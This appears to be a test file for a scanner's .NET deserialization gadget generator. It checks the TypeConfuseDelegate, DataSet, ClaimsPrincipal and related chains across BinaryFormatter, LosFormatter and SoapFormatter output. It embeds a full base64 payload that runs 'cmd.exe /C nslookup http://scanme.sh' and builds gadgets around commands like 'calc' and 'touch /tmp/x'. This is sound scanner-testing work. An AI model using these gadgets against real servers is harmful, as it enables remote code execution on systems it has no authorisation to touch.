import { DOMParser } from '@xmldom/xmldom';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { evaluate, evaluationFailure } from '../testing/evaluate.js';
import { hasMono, readWithMono } from '../testing/mono.js';
import { memberOf, type NrbfValue, readNrbf, textOf } from '../testing/nrbf.js';
import { splitCommand } from './dotnet-gadget.js';
import { processXaml } from './dotnet-gadgets.js';
import { variableLength } from './dotnet-nrbf.js';

const BUILT = [
  'type-confuse-delegate',
  'text-formatting-runproperties',
  'windows-identity',
  'claims-principal',
  'dataset',
  'dataset-type-spoof',
] as const;

function gadget(name: string, command: string, formatter = 'binary'): Buffer {
  const encoded = evaluate(
    `generate_dotnet_gadget(${JSON.stringify(name)}, ${JSON.stringify(command)}, "${formatter}", "base64-raw")`,
  );
  return Buffer.from(encoded as string, 'base64');
}

/** nuclei's own test of this helper (projectdiscovery/dsl, dsl_test.go), output for output. */
const NUCLEI_TYPE_CONFUSE_DELEGATE =
  'AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0sIFZlcnNpb249NC4wLjAuMCwgQ3VsdHVyZT1uZXV0cmFsLCBQdWJsaWNLZXlUb2tlbj1iNzdhNWM1NjE5MzRlMDg5BQEAAACEAVN5c3RlbS5Db2xsZWN0aW9ucy5HZW5lcmljLlNvcnRlZFNldGAxW1tTeXN0ZW0uU3RyaW5nLCBtc2NvcmxpYiwgVmVyc2lvbj00LjAuMC4wLCBDdWx0dXJlPW5ldXRyYWwsIFB1YmxpY0tleVRva2VuPWI3N2E1YzU2MTkzNGUwODldXQQAAAAFQ291bnQIQ29tcGFyZXIHVmVyc2lvbgVJdGVtcwADAAYIjQFTeXN0ZW0uQ29sbGVjdGlvbnMuR2VuZXJpYy5Db21wYXJpc29uQ29tcGFyZXJgMVtbU3lzdGVtLlN0cmluZywgbXNjb3JsaWIsIFZlcnNpb249NC4wLjAuMCwgQ3VsdHVyZT1uZXV0cmFsLCBQdWJsaWNLZXlUb2tlbj1iNzdhNWM1NjE5MzRlMDg5XV0IAgAAAAIAAAAJAwAAAAIAAAAJBAAAAAQDAAAAjQFTeXN0ZW0uQ29sbGVjdGlvbnMuR2VuZXJpYy5Db21wYXJpc29uQ29tcGFyZXJgMVtbU3lzdGVtLlN0cmluZywgbXNjb3JsaWIsIFZlcnNpb249NC4wLjAuMCwgQ3VsdHVyZT1uZXV0cmFsLCBQdWJsaWNLZXlUb2tlbj1iNzdhNWM1NjE5MzRlMDg5XV0BAAAAC19jb21wYXJpc29uAyJTeXN0ZW0uRGVsZWdhdGVTZXJpYWxpemF0aW9uSG9sZGVyCQUAAAARBAAAAAIAAAAGBgAAACcvYyBjbWQuZXhlIC9DIG5zbG9va3VwIGh0dHA6Ly9zY2FubWUuc2gGBwAAAANjbWQEBQAAACJTeXN0ZW0uRGVsZWdhdGVTZXJpYWxpemF0aW9uSG9sZGVyAwAAAAhEZWxlZ2F0ZQdtZXRob2QwB21ldGhvZDEDAwMwU3lzdGVtLkRlbGVnYXRlU2VyaWFsaXphdGlvbkhvbGRlcitEZWxlZ2F0ZUVudHJ5L1N5c3RlbS5SZWZsZWN0aW9uLk1lbWJlckluZm9TZXJpYWxpemF0aW9uSG9sZGVyL1N5c3RlbS5SZWZsZWN0aW9uLk1lbWJlckluZm9TZXJpYWxpemF0aW9uSG9sZGVyCQgAAAAJCQAAAAkKAAAABAgAAAAwU3lzdGVtLkRlbGVnYXRlU2VyaWFsaXphdGlvbkhvbGRlcitEZWxlZ2F0ZUVudHJ5BwAAAAR0eXBlCGFzc2VtYmx5BnRhcmdldBJ0YXJnZXRUeXBlQXNzZW1ibHkOdGFyZ2V0VHlwZU5hbWUKbWV0aG9kTmFtZQ1kZWxlZ2F0ZUVudHJ5AQECAQEBAzBTeXN0ZW0uRGVsZWdhdGVTZXJpYWxpemF0aW9uSG9sZGVyK0RlbGVnYXRlRW50cnkGCwAAALACU3lzdGVtLkZ1bmNgM1tbU3lzdGVtLlN0cmluZywgbXNjb3JsaWIsIFZlcnNpb249NC4wLjAuMCwgQ3VsdHVyZT1uZXV0cmFsLCBQdWJsaWNLZXlUb2tlbj1iNzdhNWM1NjE5MzRlMDg5XSxbU3lzdGVtLlN0cmluZywgbXNjb3JsaWIsIFZlcnNpb249NC4wLjAuMCwgQ3VsdHVyZT1uZXV0cmFsLCBQdWJsaWNLZXlUb2tlbj1iNzdhNWM1NjE5MzRlMDg5XSxbU3lzdGVtLkRpYWdub3N0aWNzLlByb2Nlc3MsIFN5c3RlbSwgVmVyc2lvbj00LjAuMC4wLCBDdWx0dXJlPW5ldXRyYWwsIFB1YmxpY0tleVRva2VuPWI3N2E1YzU2MTkzNGUwODldXQYMAAAAS21zY29ybGliLCBWZXJzaW9uPTQuMC4wLjAsIEN1bHR1cmU9bmV1dHJhbCwgUHVibGljS2V5VG9rZW49Yjc3YTVjNTYxOTM0ZTA4OQoGDQAAAElTeXN0ZW0sIFZlcnNpb249NC4wLjAuMCwgQ3VsdHVyZT1uZXV0cmFsLCBQdWJsaWNLZXlUb2tlbj1iNzdhNWM1NjE5MzRlMDg5Bg4AAAAaU3lzdGVtLkRpYWdub3N0aWNzLlByb2Nlc3MGDwAAAAVTdGFydAkQAAAABAkAAAAvU3lzdGVtLlJlZmxlY3Rpb24uTWVtYmVySW5mb1NlcmlhbGl6YXRpb25Ib2xkZXIHAAAABE5hbWUMQXNzZW1ibHlOYW1lCUNsYXNzTmFtZQlTaWduYXR1cmUKU2lnbmF0dXJlMgpNZW1iZXJUeXBlEEdlbmVyaWNBcmd1bWVudHMBAQEBAQADCA1TeXN0ZW0uVHlwZVtdCQ8AAAAJDQAAAAkOAAAABhQAAAA+U3lzdGVtLkRpYWdub3N0aWNzLlByb2Nlc3MgU3RhcnQoU3lzdGVtLlN0cmluZywgU3lzdGVtLlN0cmluZykGFQAAAD5TeXN0ZW0uRGlhZ25vc3RpY3MuUHJvY2VzcyBTdGFydChTeXN0ZW0uU3RyaW5nLCBTeXN0ZW0uU3RyaW5nKQgAAAAKAQoAAAAJAAAABhYAAAAHQ29tcGFyZQkMAAAABhgAAAANU3lzdGVtLlN0cmluZwYZAAAAK0ludDMyIENvbXBhcmUoU3lzdGVtLlN0cmluZywgU3lzdGVtLlN0cmluZykGGgAAADJTeXN0ZW0uSW50MzIgQ29tcGFyZShTeXN0ZW0uU3RyaW5nLCBTeXN0ZW0uU3RyaW5nKQgAAAAKARAAAAAIAAAABhsAAABxU3lzdGVtLkNvbXBhcmlzb25gMVtbU3lzdGVtLlN0cmluZywgbXNjb3JsaWIsIFZlcnNpb249NC4wLjAuMCwgQ3VsdHVyZT1uZXV0cmFsLCBQdWJsaWNLZXlUb2tlbj1iNzdhNWM1NjE5MzRlMDg5XV0JDAAAAAoJDAAAAAkYAAAACRYAAAAKCw==';

const INCOMPATIBLE_DELEGATES =
  /^refused System\.ArgumentException: Incompatible Delegate Types\. First is System\.Func`3\[.*System\.Diagnostics\.Process, System, .*\] second is System\.Comparison`1\[/;
const NO_POWERSHELL_EDITOR =
  /Microsoft\.PowerShell\.Editor, Version=3\.0\.0\.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35/;

/** Where Mono stops reading each gadget: the step where it is not .NET Framework. */
const MONO_STOPS: Readonly<Record<(typeof BUILT)[number], RegExp>> = {
  // .NET Framework combines the delegates unchecked; the set then sorts with Process.Start
  'type-confuse-delegate': INCOMPATIBLE_DELEGATES,
  // a Windows assembly
  'text-formatting-runproperties': NO_POWERSHELL_EDITOR,
  // Mono's WindowsIdentity reads its own members, not .NET Framework's actor
  'windows-identity':
    /^refused System\.Runtime\.Serialization\.SerializationException: Member 'm_userToken' was not found\.$/,
  // ClaimsPrincipal read its identities: the inner type-confuse-delegate, to its delegates
  'claims-principal': INCOMPATIBLE_DELEGATES,
  // DataSet read its table: the inner text-formatting-runproperties, to its assembly
  dataset: NO_POWERSHELL_EDITOR,
  'dataset-type-spoof': NO_POWERSHELL_EDITOR,
};

describe('generate_dotnet_gadget', () => {
  it("gives nuclei's own output for the case nuclei's library tests", () => {
    expect(
      evaluate(
        'generate_dotnet_gadget("type-confuse-delegate", "cmd.exe /C nslookup http://scanme.sh", "binary", "base64-raw")',
      ),
    ).toBe(NUCLEI_TYPE_CONFUSE_DELEGATE);
  });

  it('splits the command as nuclei does: cmd, powershell and pwsh start as written, the rest under cmd /c', () => {
    expect(splitCommand('calc')).toEqual({ program: 'cmd', arguments: '/c calc' });
    expect(splitCommand('cmd /k dir')).toEqual({ program: 'cmd', arguments: '/k dir' });
    expect(splitCommand('powershell -c whoami')).toEqual({ program: 'powershell', arguments: '-c whoami' });
    expect(splitCommand('pwsh -c id')).toEqual({ program: 'pwsh', arguments: '-c id' });
    expect(splitCommand('cmd.exe /c dir')).toEqual({ program: 'cmd', arguments: '/c cmd.exe /c dir' });
    expect(splitCommand('powershell')).toEqual({ program: 'cmd', arguments: '/c powershell' });
    expect(splitCommand('')).toEqual({ program: '', arguments: '' });
  });

  for (const name of BUILT) {
    it.skipIf(!hasMono)(
      `writes ${name} as a BinaryFormatter stream Mono reads to where it is not .NET Framework`,
      () => {
        const report = readWithMono(gadget(name, 'touch /tmp/x'), 'binary');
        expect(report.at(-1)).toMatch(MONO_STOPS[name]);
      },
      60_000,
    );
  }

  it('writes every gadget as a whole [MS-NRBF] stream, its command in it, for any command', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 30 }), (command) => {
        const { program, arguments: args } = splitCommand(command);
        for (const name of BUILT) {
          const stream = readNrbf(gadget(name, command));
          expect(stream.rootId).toBe(1);
          if (name === 'type-confuse-delegate') {
            const items = memberOf(stream, stream.root, 'Items');
            const texts =
              typeof items === 'object' && items.kind === 'array' ? (items.elements as NrbfValue[]) : [];
            expect(texts.map((text) => textOf(stream, text))).toEqual([args, program]);
          }
        }
      }),
      { numRuns: 25 },
    );
  });

  it('nests the inner gadget as nuclei does: base64 for the identities, the bytes of a table for DataSet', () => {
    const identity = readNrbf(gadget('windows-identity', 'calc'));
    const actor = textOf(identity, memberOf(identity, identity.root, 'System.Security.ClaimsIdentity.actor'));
    expect(Buffer.from(actor, 'base64')).toEqual(gadget('type-confuse-delegate', 'calc'));
    for (const name of ['dataset', 'dataset-type-spoof']) {
      const dataSet = readNrbf(gadget(name, 'calc'));
      const table = memberOf(dataSet, dataSet.root, 'DataSet.Tables_0');
      expect(typeof table === 'object' && table.kind === 'array' && table.elements).toEqual(
        gadget('text-formatting-runproperties', 'calc'),
      );
    }
    const spoofed = readNrbf(gadget('dataset-type-spoof', 'calc'));
    const root = spoofed.root as { name: string; library: number };
    expect(root.name).toBe(
      'System.Data.DataSet, System.Data, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089',
    );
    expect(spoofed.libraries.get(root.library)).toBe('mscorlib');
  });

  it('escapes the command in the XAML, which an XML parser reads back whole', () => {
    const command = { program: 'cmd', arguments: '/c echo "<a & b>" \'x\'' };
    const xaml = new DOMParser().parseFromString(
      processXaml(command).replace(' encoding="utf-16"', ''),
      'text/xml',
    );
    const start = xaml.getElementsByTagName('sd:ProcessStartInfo')[0];
    expect(start?.getAttribute('FileName')).toBe(command.program);
    expect(start?.getAttribute('Arguments')).toBe(command.arguments);
  });

  it('writes los as ObjectStateFormatter does: FF 01, token 0x32, the BinaryFormatter stream by its length', () => {
    for (const name of BUILT) {
      const binary = gadget(name, 'calc');
      const los = gadget(name, 'calc', 'los');
      expect(los.subarray(0, 3)).toEqual(Buffer.of(0xff, 0x01, 0x32));
      const length = variableLength(binary.length);
      expect(los.subarray(3, 3 + length.length)).toEqual(length);
      expect(los.subarray(3 + length.length)).toEqual(binary);
    }
  });

  for (const [name, stop] of [
    [
      'text-formatting-runproperties',
      /^refused System\.IO\.FileNotFoundException: .*Microsoft\.PowerShell\.Editor/,
    ],
    ['windows-identity', MONO_STOPS['windows-identity']],
    ['claims-principal', INCOMPATIBLE_DELEGATES],
  ] as const) {
    it.skipIf(!hasMono)(
      `writes ${name} for SoapFormatter, which Mono reads to where it is not .NET Framework`,
      () => {
        const soap = gadget(name, 'calc & "x" <y>', 'soap');
        expect(soap.toString('utf8')).toMatch(/^<SOAP-ENV:Envelope /);
        expect(readWithMono(soap, 'soap').at(-1)).toMatch(stop);
      },
      60_000,
    );
  }

  it('gives empty text for a gadget or a formatter nuclei does not know, as nuclei does', () => {
    expect(evaluate('generate_dotnet_gadget("nope", "calc", "binary", "base64")')).toBe('');
    expect(evaluate('generate_dotnet_gadget("dataset", "calc", "xml", "base64")')).toBe('');
    expect(evaluate('generate_dotnet_gadget("dataset", "calc", "constructor", "base64")')).toBe('');
    expect(evaluate('generate_dotnet_gadget("toString", "calc", "binary", "base64")')).toBe('');
    expect(evaluate('generate_dotnet_gadget("dataset", "calc", "", "hex")')).toBe(
      gadget('dataset', 'calc').toString('hex'),
    );
    expect(evaluate('generate_dotnet_gadget("dataset", "calc", "BinaryFormatter", "hex")')).toBe(
      gadget('dataset', 'calc').toString('hex'),
    );
  });

  it('refuses by name what keyhole does not build, saying why', () => {
    const refusal = (source: string) => evaluationFailure(() => evaluate(source));
    expect(refusal('generate_dotnet_gadget("viewstate", "a:b:c", "binary", "base64")')).toMatch(
      /^generate_dotnet_gadget: the "viewstate" gadget is not supported: /,
    );
    expect(refusal('generate_dotnet_gadget("object-ref", "http://x.test/", "binary", "base64")')).toMatch(
      /"object-ref"/,
    );
    expect(refusal('generate_dotnet_gadget("dataset", "calc", "soap", "base64")')).toMatch(
      /"dataset" gadget for the binary and los formatters, not soap/,
    );
    expect(refusal('generate_dotnet_gadget("dataset", "calc", "soap-exceptions", "base64")')).toMatch(
      /soapwithexceptions formatter is not supported/,
    );
    expect(refusal('generate_dotnet_gadget("dataset", 1, "binary", "base64")')).toMatch(/takes four strings/);
  });
});
